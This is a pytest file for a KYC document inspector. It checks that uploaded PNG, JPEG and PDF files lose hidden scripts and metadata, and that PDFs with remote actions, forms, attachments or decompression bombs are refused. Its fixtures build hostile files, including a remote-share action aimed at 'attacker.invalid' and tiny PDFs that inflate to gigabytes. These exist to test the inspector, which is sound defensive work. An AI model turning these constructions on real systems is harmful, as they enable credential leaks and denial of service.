import io

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from kyc.errors import FileActiveContent, FileUnreadable, ImageTooLarge, UnsupportedFileType
from kyc.images import MAX_IMAGE_PIXELS
from kyc.inspection import inspect_document
from kyc.tests import files


def test_an_image_over_the_pixel_budget_is_refused_before_it_is_decoded():
    output = io.BytesIO()
    Image.new("1", (8000, MAX_IMAGE_PIXELS // 8000 + 1)).save(output, format="PNG")
    with pytest.raises(ImageTooLarge):
        inspect_document(output.getvalue())


def test_a_truncated_png_is_unreadable():
    data = files.png(size=(300, 300))
    with pytest.raises(FileUnreadable):
        inspect_document(data[: len(data) // 2])


def test_bytes_hidden_after_a_png_are_not_kept():
    inspected = inspect_document(files.png() + b"<script>alert(1)</script>")
    assert b"<script>" not in inspected.content
    assert inspected.content_type == "image/png"


@pytest.mark.parametrize("data", [b"", b"GIF89a" + b"\0" * 32, files.HTML], ids=["empty", "gif", "html"])
def test_other_types_are_unsupported(data):
    with pytest.raises(UnsupportedFileType):
        inspect_document(data)


def test_a_jpeg_comment_is_not_kept():
    image = Image.new("RGB", (1, 1), (10, 20, 30))
    output = io.BytesIO()
    image.save(output, format="JPEG", comment=b"<html><script>alert(1)</script>" + b"x" * 60_000)
    inspected = inspect_document(output.getvalue())
    assert b"<script>" not in inspected.content
    assert len(inspected.content) < 2_000
    assert "comment" not in Image.open(io.BytesIO(inspected.content)).info


def test_a_png_icc_profile_is_not_kept():
    image = Image.new("RGB", (4, 4), (10, 20, 30))
    output = io.BytesIO()
    image.save(output, format="PNG", icc_profile=b"\xab" * 4096)
    inspected = inspect_document(output.getvalue())
    assert "icc_profile" not in Image.open(io.BytesIO(inspected.content)).info
    assert len(inspected.content) < 1_000


def test_a_palette_png_keeps_its_pixels():
    image = Image.new("P", (4, 4), 1)
    image.putpalette([0, 0, 0, 200, 10, 10])
    output = io.BytesIO()
    image.save(output, format="PNG")
    kept = Image.open(io.BytesIO(inspect_document(output.getvalue()).content))
    assert kept.convert("RGB").getpixel((0, 0)) == (200, 10, 10)


def _pdf_with(edit) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    edit(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _open_action(action: str, **entries):
    def edit(writer):
        values = {NameObject("/S"): NameObject(action)}
        values.update({NameObject(key): value for key, value in entries.items()})
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(values)

    return edit


def _annotation(subtype: str, **entries):
    def edit(writer):
        values = {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
        }
        values.update({NameObject(key): value for key, value in entries.items()})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject(values))])

    return edit


def _form(writer):
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject()})


@pytest.mark.parametrize(
    "edit",
    [
        _open_action("/URI", **{"/URI": TextStringObject("https://example.invalid/x")}),
        _open_action("/SubmitForm", **{"/F": TextStringObject("https://example.invalid/x")}),
        _open_action("/GoToR", **{"/F": TextStringObject("\\\\attacker.invalid\\share\\x.pdf")}),
        _open_action("/ImportData", **{"/F": TextStringObject("data.fdf")}),
        _open_action("/Rendition"),
        _open_action("/GoToE"),
        _open_action("/Named", **{"/N": NameObject("/Print")}),
        _annotation(
            "/Link",
            **{
                "/A": DictionaryObject(
                    {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("x")}
                )
            },
        ),
        _annotation("/FileAttachment"),
        _annotation("/Sound"),
        _annotation("/Movie"),
        _form,
    ],
    ids=[
        "open-uri",
        "open-submit-form",
        "open-goto-remote",
        "open-import-data",
        "open-rendition",
        "open-goto-embedded",
        "open-named-action",
        "link-uri",
        "file-attachment",
        "sound",
        "movie",
        "acroform",
    ],
)
def test_a_pdf_action_or_form_beyond_opening_a_page_is_refused(edit):
    with pytest.raises(FileActiveContent):
        inspect_document(_pdf_with(edit))


def test_a_pdf_opening_at_a_page_is_accepted():
    def edit(writer):
        page = writer.pages[0].indirect_reference
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    kept = PdfReader(io.BytesIO(inspect_document(_pdf_with(edit)).content), strict=True)
    assert len(kept.pages) == 1
    assert kept.trailer["/Root"]["/OpenAction"][0].get_object() == kept.pages[0]


def test_a_pdf_is_stored_as_written_anew_the_same_for_the_same_objects():
    data = files.pdf()
    assert inspect_document(data).content == inspect_document(data + b"\0%%EOF<html>").content


def test_a_pdf_with_object_streams_is_accepted():
    inspected = inspect_document(files.object_stream_pdf(streams=3, padding=1000))
    assert inspected.content_type == "application/pdf"
    assert len(PdfReader(io.BytesIO(inspected.content)).pages) == 1


def test_a_pdf_whose_cross_reference_stream_lists_a_million_objects_is_refused():
    # pypdf reads up to two million rows per cross-reference stream by default: a 20 KB file
    # that lists a million objects held hundreds of megabytes and seconds of CPU to open.
    data = files.wide_xref_pdf(entries=1_000_000)
    assert len(data) < 100_000
    with pytest.raises(FileUnreadable):
        inspect_document(data)


def test_a_pdf_whose_cross_reference_stream_lists_few_objects_is_accepted():
    assert inspect_document(files.wide_xref_pdf(entries=1_000)).content_type == "application/pdf"


def test_a_pdf_whose_object_streams_inflate_past_the_budget_is_refused():
    # Each stream is 20 KB that inflates to 20 MB, and pypdf keeps each decoded: a 10 MB
    # upload of such streams held gigabytes while it was inspected.
    data = files.object_stream_pdf(streams=2, padding=20_000_000)
    assert len(data) < 100_000
    with pytest.raises(FileUnreadable):
        inspect_document(data)
